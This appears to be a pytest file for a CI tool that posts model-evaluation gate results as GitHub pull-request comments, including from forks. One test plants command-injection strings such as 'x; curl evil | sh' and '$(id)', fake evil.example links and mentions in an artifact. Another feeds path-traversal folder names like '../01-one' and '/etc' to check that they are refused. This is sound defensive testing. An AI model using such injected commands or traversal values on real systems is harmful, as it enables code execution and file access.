"""``comment/action.yml``: one comment a gate, on the pull request of the event, whatever an artifact says."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ci.github_server import TOKEN, GitHub, serve
from ci.hosted import ACTION, COMMENT, REPOSITORY, WORSE, Hosted, accepted, named, pull_request
from ci.runner import Runner
from command_line import Project, Said
from copies import Copies
from toy_suites import write_suite

from harness.cli import gate_file
from harness.cli.gate_file import Entry
from harness.report.comment import marker

HEAD = "a" * 40


@pytest.fixture
def github() -> Iterator[GitHub]:
    with serve() as host:
        yield host


@pytest.fixture
def left(project: Project, copies: Copies) -> Path:
    """What a gate of a worse model left, as its artifact was unpacked."""
    copies.fill(project, accepted)
    file = write_suite(project.folder, named("one", WORSE), "gates/one.yaml")
    assert project.harness("run", file, "--out", "left/01-one").code == 6
    gate_file.write(project.folder / "left", [Entry("suites/gates/one.yaml", "01-one", "regressed", 6)])
    return project.folder / "left"


def workflow_run(head: str = HEAD, *, fork: bool = True, **given: Any) -> dict[str, Any]:
    source = "someone/models" if fork else "team/models"
    run = {
        "id": 76,
        "event": "pull_request",
        "head_sha": head,
        "head_branch": "change",
        "head_repository": {"full_name": source, "owner": {"login": source.partition("/")[0]}},
        "html_url": "https://github.example/team/models/actions/runs/76",
        "pull_requests": [],
        **given,
    }
    return {"action": "completed", "workflow_run": run, "repository": REPOSITORY}


def post(
    project: Project,
    github: GitHub,
    payload: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    event: str = "workflow_run",
    *options: str,
) -> Said:
    (project.folder / "event.json").write_text(json.dumps(payload))
    for name, value in {
        "GITHUB_API_URL": github.url,
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_REPOSITORY": "team/models",
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(project.folder / "event.json"),
    }.items():
        monkeypatch.setenv(name, value)
    return project.harness("ci", "comment", "left", "--post", *options)


def test_a_fork_gets_one_comment_which_the_next_run_updates(hosted: Hosted, github: GitHub) -> None:
    hosted.write("one", WORSE)
    first = hosted.pull_request(fork=True)
    assert not first.run(ACTION, suite="suites/gates/one.yaml", version="none").ok
    github.comment(7, f"{marker('harness')}\nBy somebody else.", "mallory")
    for number, tested in enumerate((first, hosted.pull_request(fork=True))):
        if number:
            assert not tested.run(ACTION, suite="suites/gates/one.yaml", version="none").ok
        head = tested.github["event"]["pull_request"]["head"]["sha"]
        github.pulls = [pull_request(head, fork=True)]
        place = hosted.place / f"comment-{number}"
        (place / "work").mkdir(parents=True)
        runner = Runner(place, place / "work", "workflow_run", workflow_run(head), GITHUB_API_URL=github.url)
        shutil.copytree(tested.artifacts, runner.artifacts)
        ended = runner.run(COMMENT, version="none")
        assert ended.ok, ended.log
        assert [action for action, _ in ended.used] == ["actions/download-artifact"]
        assert ended.used[0][1]["run-id"] == "76"
        others, ours = github.comments[7]
        assert others["body"].endswith("By somebody else.")
        assert head[:12] in ours["body"]
    lines = ours["body"].split("\n")
    assert lines[0] == marker("harness")
    assert lines[1] == "## 🔴 regressed: toy/one"
    assert "The figures are those that the code of this pull request, from a fork, reports." in ours["body"]
    assert "harness run suites/gates/one.yaml --baseline-ref refs/remotes/origin/main" in ours["body"]
    assert "(https://github.example/team/models/actions/runs/76)" in ours["body"]
    row = next(line for line in lines if line.startswith("| 🔴 fit.error |"))
    cells = [cell.strip() for cell in row.strip("|").split("|")]
    assert cells[4].startswith("[")
    assert cells[5].startswith("0.1")
    assert float(cells[6]) > 0


def test_a_gate_that_left_nothing_is_told(
    project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project.folder / "left").mkdir()
    github.pulls = [pull_request(HEAD, fork=True)]
    assert post(project, github, workflow_run(), monkeypatch).out == "commented on #7\n"
    [one] = github.comments[7]
    assert "The gate left no run; its log says why." in one["body"]


@pytest.mark.parametrize(
    "pulls",
    [
        [],
        [pull_request("b" * 40, fork=True)],
        [pull_request(HEAD, fork=False)],
        [{**pull_request(HEAD, fork=True), "base": {"ref": "main", "repo": {"full_name": "a/b"}}}],
    ],
)
def test_a_commit_that_is_no_head_of_an_open_pull_request_gets_no_comment(
    left: Path,
    project: Project,
    github: GitHub,
    monkeypatch: pytest.MonkeyPatch,
    pulls: list[dict[str, Any]],
) -> None:
    github.pulls = pulls
    said = post(project, github, workflow_run(), monkeypatch)
    assert said.code == 0
    assert said.out.endswith("nothing is posted\n")
    assert github.comments == {}


def test_the_event_says_which_of_two_pull_requests_it_was(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    github.pulls = [pull_request(HEAD), pull_request(HEAD, number=8)]
    said = post(project, github, workflow_run(fork=False), monkeypatch)
    assert (said.code, github.comments) == (5, {})
    assert "several pull requests (#7, #8)" in said.error
    payload = workflow_run(fork=False, pull_requests=[{"number": 8}])
    assert post(project, github, payload, monkeypatch).out == "commented on #8\n"


def test_a_pull_request_with_a_token_that_may_write_needs_no_second_workflow(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    payload = {"pull_request": pull_request(HEAD), "repository": REPOSITORY}
    assert post(project, github, payload, monkeypatch, "pull_request").out == "commented on #7\n"
    assert post(project, github, payload, monkeypatch, "pull_request").out == "updated the comment on #7\n"
    other = post(project, github, payload, monkeypatch, "pull_request", "--name", "gpu")
    assert other.out == "commented on #7\n"
    assert [c["body"].partition("\n")[0] for c in github.comments[7]] == [marker("harness"), marker("gpu")]
    assert "from a fork" not in github.comments[7][0]["body"]


def test_the_own_comment_is_found_behind_many_others(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    for _ in range(250):
        github.comment(7, "me too", "someone")
    ours = github.comment(7, marker("harness"))
    github.pulls = [pull_request(HEAD, fork=True)]
    assert post(project, github, workflow_run(), monkeypatch).out == "updated the comment on #7\n"
    assert "regressed" in ours["body"]


def test_what_an_artifact_says_changes_no_place_and_opens_no_file(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = json.loads((left / "01-one" / "run.json").read_text())
    record["suite"] = "toy/one"
    record["provenance"]["command"] = ["harness", "run", "x; curl evil | sh", "$(id)"]
    finding = next(f for f in record["comparison"]["findings"] if f["gated"])
    finding["reason"] = (
        f"{marker('harness')} see https://evil.example, www.evil.example #12 gh-3 @team ![x](y)"
    )
    (left / "01-one" / "run.json").write_text(json.dumps(record))
    entries = [
        Entry("suites/gates/one.yaml", "01-one", "regressed", 6),
        Entry("#7: ok", "02", "regressed", 6),
    ]
    gate_file.write(left, entries)
    (left / "02").symlink_to(project.folder / "left" / "01-one")
    github.pulls = [pull_request(HEAD, fork=True)]
    said = post(project, github, {**workflow_run(), "number": 99}, monkeypatch)
    assert said.out == "commented on #7\n"
    [one] = github.comments[7]
    body = one["body"]
    assert body.count(marker("harness")) == 1
    assert "harness run 'x; curl evil | sh' '$(id)'" in body
    for live in ("https://evil", "www.evil", "#12", "gh-3", "@team", "![x]", "#7: ok"):
        assert live not in body, live
    assert "error: #<!-- -->7: ok" in body or "\\#<!-- -->7: ok" in body
    assert "02/run.json: no such file" in body


@pytest.mark.parametrize("folder", ["../01-one", "/etc", "", "a/b", "x\ny"])
def test_a_folder_elsewhere_is_refused(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch, folder: str
) -> None:
    gate_file.write(left, [Entry("suites/gates/one.yaml", folder, "regressed", 6)])
    github.pulls = [pull_request(HEAD, fork=True)]
    assert post(project, github, workflow_run(), monkeypatch).code == 0
    [one] = github.comments[7]
    assert "is not the name of a run's folder" in one["body"]
    assert "regressed" not in one["body"]


@pytest.mark.parametrize(
    ("event", "payload", "told"),
    [
        ("push", {}, "an event 'push' is about no pull request"),
        ("workflow_run", {"workflow_run": 5}, "an event 'workflow_run' is about no pull request"),
    ],
)
def test_other_events_are_one_line(
    left: Path,
    project: Project,
    github: GitHub,
    monkeypatch: pytest.MonkeyPatch,
    event: str,
    payload: dict[str, Any],
    told: str,
) -> None:
    said = post(project, github, payload, monkeypatch, event)
    assert said.code == 2
    assert told in said.error


def test_a_host_that_refuses_or_is_not_there_is_one_line(
    left: Path, project: Project, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    github.pulls = [pull_request(HEAD, fork=True)]
    github.may_write = False
    said = post(project, github, workflow_run(), monkeypatch)
    assert said.code == 5
    assert said.error.startswith(
        "GitHub answered 403 to POST /repos/team/models/issues/7/comments; the job needs"
    )
    github.url = "http://127.0.0.1:9"
    said = post(project, github, workflow_run(), monkeypatch)
    assert said.code == 5
    assert said.error.startswith("GitHub cannot be reached for GET /repos/team/models/pulls (")
    monkeypatch.delenv("GITHUB_TOKEN")
    assert "GITHUB_TOKEN is not set" in project.harness("ci", "comment", "left", "--post").error


def test_without_post_it_is_printed_or_written(left: Path, project: Project) -> None:
    said = project.harness("ci", "comment", "left", "--link", "https://ci.example/job/1")
    assert said.code == 0
    assert said.out.startswith(marker("harness"))
    assert said.out.endswith("[Reports and log](https://ci.example/job/1)\n")
    assert project.harness("ci", "comment", "left", "--to", "note.md").code == 0
    assert (project.folder / "note.md").read_text().startswith(marker("harness"))
    assert (
        "--to nowhere/note.md: cannot be written"
        in project.harness("ci", "comment", "left", "--to", "nowhere/note.md").error
    )
    assert (
        "--link: expected an address"
        in project.harness("ci", "comment", "left", "--link", "javascript:x").error
    )
    assert "--name: '-->': expected letters" in project.harness("ci", "comment", "left", "--name=-->").error
